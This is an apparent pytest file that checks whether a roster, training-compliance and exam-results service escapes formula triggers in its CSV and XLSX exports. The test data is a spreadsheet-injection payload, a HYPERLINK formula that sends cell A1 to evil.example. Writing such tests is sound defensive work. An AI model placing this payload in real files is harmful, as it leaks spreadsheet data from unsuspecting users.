"""One escaping rule for every file the service writes: each formula trigger through each export.

The roster CSV is built by Python on SQLite and by PostgreSQL's COPY on PostgreSQL, so the HTTP test
runs both twins of the rule; the XLSX writes typed text cells; the training compliance and exam
results CSVs go through the same ``app.lib.exports.spreadsheet_safe``.
"""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace
from typing import Any

import openpyxl
import pytest
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession

from app.accounts.models import Agency, Officer
from app.exams.rules import ExamPart
from app.exams.schemas import OfficerResult
from app.exams.services import results_csv
from app.lib.exports import FORMULA_TRIGGERS
from app.training.services import compliance_csv
from tests.factories import World
from tests.integration.conftest import Client
from tests.integration.rosters.conftest import YEAR

PAYLOAD = 'HYPERLINK("http://evil.example/?q="&A1,"点我")'
TRIGGERS = pytest.mark.parametrize(
    "trigger", FORMULA_TRIGGERS, ids=[f"U+{ord(t):04X}" for t in FORMULA_TRIGGERS]
)


def _csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@TRIGGERS
async def test_roster_csv_and_xlsx_defuse_every_trigger(
    client: Client, db: AsyncSession, world: World, people: dict[str, Officer], trigger: str
) -> None:
    evil = trigger + PAYLOAD
    sun = people["孙三"]
    await db.execute(update(Officer).where(Officer.id == sun.id).values(field=evil, area=evil))
    await db.execute(update(Agency).where(Agency.id == world.dept_a.id).values(name=evil))
    await db.commit()
    await client.login("sfj_admin")

    r = await client.get(f"/rosters/export.csv?year={YEAR}")
    assert r.status_code == 200
    row = next(x for x in _csv_rows(r.content) if x["姓名"] == "孙三")
    for column in ("执法类别", "执法区域", "单位"):
        assert row[column] == "'" + evil, (column, row[column])

    r = await client.get("/rosters/export.xlsx?sort=name")
    assert r.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    header = [c.value for c in ws[1]]
    cells = next(row for row in ws.iter_rows(min_row=2) if row[0].value == "孙三")
    for column in ("执法类别", "执法区域", "单位"):
        cell = cells[header.index(column)]
        # A typed text cell (never a formula), holding the text as entered (openpyxl normalises CR LF).
        assert cell.data_type == "s", (column, cell.data_type)
        assert str(cell.value).replace("\r\n", "\n").replace("\r", "\n") == evil.replace("\r", "\n")


@TRIGGERS
def test_training_compliance_csv_defuses_every_trigger(trigger: str) -> None:
    evil = trigger + PAYLOAD
    row = SimpleNamespace(
        name=evil,
        agency_name=evil,
        required=40.0,
        total=12.0,
        general_law=4.0,
        special_law=8.0,
        new_law=0.0,
        needed=28.0,
        status_label="未达标",
    )
    text = "".join(compliance_csv(SimpleNamespace(rows=[row])))  # type: ignore[arg-type]
    [out] = _csv_rows(text.encode("utf-8"))
    assert out["姓名"] == "'" + evil and out["单位"] == "'" + evil


@TRIGGERS
def test_exam_results_csv_defuses_every_trigger(trigger: str) -> None:
    evil = trigger + PAYLOAD
    officer = OfficerResult(
        officer_id=1,
        officer_name=evil,
        agency_id=1,
        agency_name=evil,
        field=evil,
        parts={ExamPart.PUBLIC.value: 90.0},
        passed_all=True,
        attempts=1,
    )
    parts: Any = [SimpleNamespace(part=ExamPart.PUBLIC.value, part_label=ExamPart.PUBLIC.label)]
    body = results_csv(SimpleNamespace(officers=[officer]), parts)  # type: ignore[arg-type]
    [out] = _csv_rows(body)
    assert out["姓名"] == out["单位"] == out["执法领域"] == "'" + evil
